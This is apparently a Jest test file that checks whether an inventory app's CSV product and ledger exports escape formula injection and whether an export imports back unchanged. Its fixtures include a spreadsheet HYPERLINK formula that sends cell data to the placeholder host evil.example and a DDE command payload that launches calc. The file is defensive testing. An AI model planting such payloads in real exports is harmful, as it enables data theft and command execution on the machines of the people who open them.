import { parse } from 'csv-parse/sync';
import { createUserAndLogin, createWarehouse } from '../setup/factories';
import { startTestApp, TestApp } from '../setup/test-app';

type Auth = { Authorization: string };

/** Names a spreadsheet would run as formulas, and one that already looks escaped. */
const POISONED = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+SUM(1+1)',
  '-2+3',
  '@cmd',
  "'=kept as typed",
];

describe('CSV exports against formula injection, and a lossless round trip', () => {
  let t: TestApp;
  let manager: Auth;

  beforeAll(async () => {
    t = await startTestApp();
    manager = (await createUserAndLogin(t, { role: 'admin' })).auth;
    for (const [i, name] of POISONED.entries()) {
      await t.http
        .post('/api/v1/products')
        .set(manager)
        .send({ sku: `F-${i}`, name, unit: 'unit', description: `=cmd|' /C calc'!A${i}` })
        .expect(201);
    }
  });
  afterAll(() => t.close());

  const exportProducts = async () =>
    (await t.http.get('/api/v1/products/export?search=F-').set(manager).expect(200)).text;
  const records = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

  it('prefixes product cells starting with = + - @ with a quote', async () => {
    const rows = records(await exportProducts());
    expect(rows.map((row) => row.name)).toEqual(POISONED.map((name) => `'${name}`));
    expect(rows.every((row) => row.description.startsWith("'=cmd|"))).toBe(true);
    // Plain numbers stay numbers.
    expect(rows.map((row) => row.expiryWarningDays)).toEqual(POISONED.map(() => '2'));
  });

  it('imports its own export unchanged: import → export → import loses nothing', async () => {
    const before = (await t.db.query(`SELECT * FROM products ORDER BY sku`)).rows;
    const first = await exportProducts();
    const res = await t.http
      .post('/api/v1/products/import')
      .set(manager)
      .attach('file', Buffer.from(first, 'utf8'), 'products.csv')
      .expect(200);
    expect(res.body).toEqual(
      expect.objectContaining({ created: 0, updated: 0, unchanged: POISONED.length, errors: [] }),
    );
    expect((await t.db.query(`SELECT * FROM products ORDER BY sku`)).rows).toEqual(before);
    expect(await exportProducts()).toBe(first);
  });

  it('reads an escaped cell from a hand-made file as the text behind the quote', async () => {
    const csv = ['sku,name,unit', "F-NEW,'=1+2,unit", "F-NEW2,'plain quote,unit"].join('\n');
    await t.http
      .post('/api/v1/products/import')
      .set(manager)
      .attach('file', Buffer.from(csv, 'utf8'), 'products.csv')
      .expect(200);
    const { rows } = await t.db.query(
      `SELECT sku, name FROM products WHERE sku IN ('F-NEW', 'F-NEW2') ORDER BY sku`,
    );
    expect(rows).toEqual([
      { sku: 'F-NEW', name: '=1+2' },
      // Only the quote the export adds (before = + - @ tab CR) is taken off.
      { sku: 'F-NEW2', name: "'plain quote" },
    ]);
  });

  it('escapes the ledger export the same way, and keeps quantities as numbers', async () => {
    const w = await createWarehouse(t, 'FX');
    const product = (await t.db.query(`SELECT id FROM products WHERE sku = 'F-0'`)).rows[0];
    await t.http
      .post('/api/v1/stock-moves')
      .set(manager)
      .send({ type: 'receipt', warehouseId: w.id, productId: product.id, quantity: '5' })
      .expect(201);
    const res = await t.http
      .get(`/api/v1/stock-moves/export?productId=${product.id}`)
      .set(manager)
      .expect(200);
    const [move] = records(res.text);
    expect(move.product).toBe(`'${POISONED[0]}`);
    expect(move.quantity).toMatch(/^5(\.0+)?$/);
  });
});
